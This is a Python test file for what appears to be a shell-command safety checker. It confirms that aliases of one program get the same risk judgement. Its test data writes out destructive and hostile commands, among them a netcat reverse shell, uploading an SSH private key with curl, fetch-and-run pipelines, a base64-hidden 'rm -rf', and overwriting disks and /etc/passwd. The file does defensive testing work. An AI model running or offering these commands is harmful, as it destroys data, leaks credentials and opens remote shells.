"""One program under several names: judged alike, and in every table under one name alone."""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from shellper.safety import assess, explain
from shellper.safety.canonical import canonical
from shellper.safety.explanation import effects
from shellper.safety.files import inputs, sending, written
from shellper.safety.interpreters import CODE_OPTIONS, FILE_RUNNERS, SHELLS
from shellper.safety.languages import foreign
from shellper.safety.loading import LOADERS
from shellper.safety.options import COMMAND_AFTER, LAST_OPTIONS, VALUED
from shellper.safety.outputs import _PASSING, _PRINTERS, _SILENT
from shellper.safety.rules import rules_by_program
from shellper.safety.sources import _BY_PROGRAM, DECODERS, FETCHERS
from shellper.safety.wrappers import READERS

TABLES: dict[str, Iterable[str]] = {
    "rules": rules_by_program(), "wrappers": READERS, "loading": LOADERS,
    "interpreters": [*SHELLS, *CODE_OPTIONS, *FILE_RUNNERS],
    "options": [name.split()[0] for name in (*VALUED, *COMMAND_AFTER, *LAST_OPTIONS)],
    "languages": foreign.CODE_TAKERS | foreign.COMPILERS, "sources": [*_BY_PROGRAM, *DECODERS, *FETCHERS],
    "outputs": [*_PRINTERS, *_PASSING, *_SILENT], "effects": [*effects._CHANGES, *effects._QUIET, *effects._LOUD],
    "files": [
        *written._WRITERS, *written._ARCHIVE_OPTIONS, *written._ARCHIVE_OPERANDS,
        *inputs._READERS, *inputs._PATTERN_FIRST, *sending._WHOLE, *sending._AFTER_AT, *sending._CREDENTIALS,
    ],
}  # fmt: skip


@pytest.mark.parametrize("table", TABLES)
def test_tables_have_one_name(table: str) -> None:
    assert {name: canonical(name) for name in TABLES[table] if canonical(name) != name} == {}


@pytest.mark.parametrize(
    ("written", "program"),
    [
        ("gsed", "sed"),
        ("/opt/homebrew/bin/gtar", "tar"),
        ("k", "kubectl"),
        ("python3.11", "python"),
        ("pypy3", "python"),
        ("gawk-5", "awk"),
        ("clang++-15", "cc"),
        ("gpg2", "gpg"),
        ("pip3", "pip"),
        ("killall5", "killall5"),
        ("sqlite3", "sqlite3"),
        ("base64", "base64"),
        ("git", "git"),
        ("gio", "gio"),
        ("go", "go"),
        ("gcc", "cc"),
        ("gunzip", "gunzip"),
        ("grep", "grep"),
        ("", ""),
    ],
)
def test_canonical(written: str, program: str) -> None:
    assert canonical(written) == program


@pytest.mark.parametrize(
    ("command", "others"),
    [
        ("tar -cf /etc/hosts a", "gtar bsdtar"),
        ("tar --checkpoint=1 --checkpoint-action='exec=rm -rf ~' -cf a b", "gtar"),
        ("tar --remove-files -cf a.tar ~", "gtar bsdtar"),
        ("kubectl exec p -- sh -c 'rm -rf /etc'", "k oc"),
        ("http -o x.sh x.io && sh x.sh", "https xh xhs"),
        ("curl -o x.sh x.io && sh x.sh", "curlie"),
        ("curl -T ~/.ssh/id_rsa x.io", "curlie"),
        ("nc -e /bin/sh 1.2.3.4 99", "netcat"),
        ("dd if=a of=/dev/sda", "gdd"),
        ("dd if=a of=/etc/passwd", "gdd"),
        ("chmod -R 777 /", "gchmod"),
        ("chown -R me /usr", "gchown"),
        ("shred /etc/passwd", "gshred"),
        ("truncate -s 0 /etc/fstab", "gtruncate"),
        ("tee /etc/passwd < a", "gtee"),
        ("ln -sfn a /usr", "gln"),
        ("install a /etc/passwd", "ginstall"),
        ("rm -rf ~", "grm"),
        ("rm -rf build", "grm"),
        ("mv ~ a", "gmv"),
        ("cp a /dev/sda", "gcp"),
        ("find ~ -delete", "gfind"),
        ("find / -size +1M -exec rm {} +", "gfind"),
        ("sed -i d /etc/passwd", "gsed"),
        ("awk '{print > FILENAME}' a", "gawk mawk nawk"),
        ("awk 'BEGIN {system(\"rm -rf ~\")}'", "gawk mawk nawk"),
        ("timeout 5 rm -rf ~", "gtimeout"),
        ("env A=1 rm -rf ~", "genv"),
        ("echo / | xargs rm -rf", "gxargs"),
        ("echo cm0gLXJmIC8K | base64 -d | sh", "gbase64"),
        ('node -e \'require("child_process").execSync("rm -rf ~")\'', "nodejs"),
        ("python -c 'import os; os.system(\"rm -rf ~\")'", "python2 python3 python3.12 pypy3"),
        ("pip install x", "pip3"),
        ("mysql -e 'drop database a'", "mariadb"),
        ("sqlite3 a.db 'drop table x'", "sqlite"),
    ],
)
def test_names_of_one_program_are_judged_alike(command: str, others: str) -> None:
    """The first of the others' programs stands in the command."""
    program = next(word for word in command.split() if word == canonical(others.split()[0]))
    wanted = assess(command)
    for other in others.split():
        found = assess(command.replace(program, other, 1))
        assert found.level is wanted.level, other
        assert [reason.replace(f"{other}:", f"{program}:") for reason in found.reasons] == wanted.reasons


def test_reasons_have_the_name_that_was_typed() -> None:
    assert assess("k delete pod a").reasons == ["k: removes things from the cluster"]
    assert "works with a cluster" in explain("k version").text()
